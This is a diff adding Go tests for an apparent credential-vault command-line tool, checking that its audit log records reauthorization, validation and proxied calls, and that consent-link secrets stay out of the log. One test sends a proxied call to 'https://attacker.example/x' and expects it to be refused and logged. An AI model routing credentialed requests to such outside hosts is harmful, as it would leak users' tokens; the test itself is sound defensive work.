@@ -3,6 +3,7 @@ package main
 import (
 	"encoding/json"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -52,4 +53,54 @@ func TestAudit(t *testing.T) {
 	require.NoError(t, json.Unmarshal([]byte(got.stdout), &trail))
 	require.Len(t, trail.Events, 2)
 	assert.Equal(t, vault.Action("sign-in"), trail.Events[1].Action, "the newest comes last, where a person looks")
+}
+
+// audited returns what the audit log has of an account, the newest last, as action, outcome and detail.
+func (w *world) audited(account string) []string {
+	w.t.Helper()
+	var trail auditTrail
+	got := w.run("audit", "--account", account, "--json").exits(exitOK)
+	require.NoError(w.t, json.Unmarshal([]byte(got.stdout), &trail))
+	lines := make([]string, len(trail.Events))
+	for i, e := range trail.Events {
+		assert.Contains(w.t, e.Actor, "@", "who runs the command, and where")
+		lines[i] = strings.TrimSpace(string(e.Action) + " " + string(e.Outcome) + " " + e.Detail)
+	}
+	return lines
+}
+
+func TestTheAuditLogHasWhatCommandsDid(t *testing.T) {
+	w := newWorld(t)
+	w.connect("acme/triage/slack")
+	temporal := w.serveTemporal()
+	temporal.account(statusOf(credential.ReauthorizationRequired, 7))
+	w.run("account", "show", "acme/triage/slack").exits(exitNeedsPerson)
+	assert.Empty(t, w.audited("acme/triage/slack"), "looking changes nothing")
+
+	page := w.invite("--json").Page
+	w.run("account", "reauthorize", "acme/triage/slack").exits(exitOK)
+	temporal.account(statusOf(credential.Active, 7)).updated = statusOf(credential.Degraded, 7)
+	w.run("account", "validate", "acme/triage/slack").exits(exitOK)
+	server := echo(t)
+	w.configure(server.URL)
+	w.run("call", "acme/triage/slack", "POST", "auth.test?key=hidden", "-d", "body").exits(exitOK)
+	w.run("call", "acme/triage/slack", "GET", "https://attacker.example/x").exits(exitFailure)
+	trail := w.audited("acme/triage/slack")
+	assert.Equal(t, []string{
+		"link-minted done", "link-minted done", "validate done degraded", "call done POST " + server.URL + "/api/auth.test: 200 OK",
+		"call failed GET https://attacker.example/x",
+	}, trail)
+	_, secret, _ := strings.Cut(page, "/c/")
+	assert.NotContains(t, strings.Join(trail, " "), secret)
+}
+
+func TestTheAuditLogHasAccountsThatNobodyConsentsFor(t *testing.T) {
+	w := newWorld(t)
+	w.connect("acme/triage/slack") // makes the vault
+	w.minting()
+	active := statusOf(credential.Active, 1)
+	active.Account = gitHubAccount
+	w.serveTemporal().account(active)
+	w.run("account", "connect", "acme/triage/github").exits(exitOK)
+	assert.Equal(t, []string{"connect done"}, w.audited("acme/triage/github"))
 }
